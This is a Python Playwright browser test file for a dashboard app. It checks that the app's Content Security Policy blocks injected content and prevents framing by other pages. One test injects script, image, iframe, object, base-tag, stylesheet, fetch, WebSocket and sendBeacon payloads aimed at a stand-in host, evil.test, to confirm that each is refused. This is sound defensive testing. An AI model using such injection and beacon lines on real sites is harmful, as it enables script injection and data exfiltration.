"""The pages run under their own policy: nothing that the board does runs into it, and what is not ours does not run.

Every visit of every other browser test ends with the same demand (`visiting`); here the walk goes where those do not.
"""

import os
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from lib.exports.registry import EXPORTS
from lib.i18n import Language, text
from tests.browser.conftest import POLICY, ROOT, Server, Visit, visiting

pytestmark = pytest.mark.browser

IS_LONG = os.environ.get("PHASEBOARD_TEST_LONG") == "1"
SAMPLE = ROOT / "data" / "sample.xlsx"
PAGES = ("/tasks", "/feedback", "/rectification", "/data")


def presented(visit: Visit) -> Page:
    """The presentation, in the window that its button opens."""
    visit.open("/meeting")
    with visit.page.context.expect_page() as opened:
        visit.page.get_by_role("link", name="开始放映").click()
    opened.value.locator(".screen.now").first.wait_for()
    return opened.value


def downloaded(visit: Visit, into: Path, language: Language, *names: str) -> list[Path]:
    """The files that the page of the meeting makes."""
    visit.open(f"/meeting?lang={language}")
    files = []
    for name in names:
        button = visit.page.locator(".st-key-meeting_files").get_by_role("button", name=text(language, f"meeting.file.{name}"), exact=True)
        with visit.page.expect_download() as got:
            button.click()
        files.append(into / got.value.suggested_filename)
        got.value.save_as(files[-1])
    return files


def test_a_presentation_and_a_file_to_take_along_run_under_their_own_policies(visit: Visit, tmp_path: Path) -> None:
    screen = presented(visit)
    screen.keyboard.press("ArrowRight")

    assert screen.locator(".screen.now").count() == 1
    screen.close()
    assert len(downloaded(visit, tmp_path, Language.ZH, "html")) == 1
    assert visit.complaints == []


def test_what_is_put_into_a_page_from_outside_is_neither_run_nor_fetched(server: Server, chromium: Browser) -> None:
    strange = """
      const told = []
      addEventListener('securitypolicyviolation', event => told.push(event.effectiveDirective))
      const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set))
      add('script', {textContent: 'window.ran = 1'})
      add('script', {src: 'http://evil.test/a.js'})
      add('img', {src: 'http://evil.test/a.png'})
      add('iframe', {src: 'http://evil.test/'})
      add('object', {data: 'http://evil.test/a.swf'})
      add('base', {href: 'http://evil.test/'})
      add('link', {rel: 'stylesheet', href: 'http://evil.test/a.css'})
      document.body.insertAdjacentHTML('beforeend', '<b onclick="window.ran = 2" id="pressed">x</b>')
      document.getElementById('pressed').click()
      fetch('http://evil.test/').catch(() => 0)
      try { new WebSocket('ws://evil.test/') } catch {}
      try { navigator.sendBeacon('http://evil.test/', 'x') } catch {}
    """
    context = chromium.new_context(locale="zh-CN")
    page = context.new_page()
    refused: list[str] = []
    asked: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if POLICY in message.text else None)
    page.on("request", lambda request: asked.append(request.url) if "evil.test" in request.url and not request.failure else None)
    page.goto(server.address)
    page.locator(".pb-conclusion").first.wait_for()
    page.evaluate(strange)
    page.wait_for_timeout(300)

    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.baseURI").startswith(server.address)
    for directive in ("script-src", "img-src", "object-src", "base-uri", "style-src", "connect-src"):
        assert any(directive in each for each in refused), directive
    context.close()


def test_no_other_page_can_hold_the_board_in_a_frame(server: Server, chromium: Browser, tmp_path: Path) -> None:
    holder = tmp_path / "holder.html"
    holder.write_text(f'<iframe src="{server.address}/" width="900" height="700"></iframe>', encoding="utf-8")
    context = chromium.new_context()
    page = context.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.goto(holder.as_uri())
    page.wait_for_timeout(500)

    assert any("frame" in each for each in refused)
    assert page.frames[-1].url in ("", "chrome-error://chromewebdata/")
    context.close()


@pytest.mark.skipif(not IS_LONG, reason="the whole walk; `run.py test --long`")
@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("language", list(Language))
def test_the_whole_walk_runs_into_no_policy(server: Server, chromium: Browser, tmp_path: Path, language: Language, theme: str) -> None:
    for visit in visiting(server, chromium, color_scheme=theme):
        for path in PAGES:
            visit.open(f"{path}?lang={language}")
            tabs = visit.page.get_by_role("tab")
            for number in range(tabs.count()):
                tabs.nth(number).click()
                visit.settle()
            for grid in visit.page.locator("[data-testid=stDataFrame]").all():
                grid.hover()
            for bar in visit.page.locator("[data-testid=stElementToolbarButton] button:visible").all()[:1]:
                bar.click()
                visit.page.keyboard.press("Escape")
            for chart in visit.page.locator(".js-plotly-plot").all()[:3]:
                chart.hover()
            visit.page.emulate_media(media="print")
            visit.page.pdf(path=tmp_path / "paper.pdf")
            visit.page.emulate_media(media="screen")
        visit.page.locator("input[type=file]").set_input_files(SAMPLE)
        visit.settle()
        assert visit.complaints == []
    for visit in visiting(server, chromium, color_scheme=theme):
        assert len(downloaded(visit, tmp_path, language, *EXPORTS)) == len(EXPORTS)
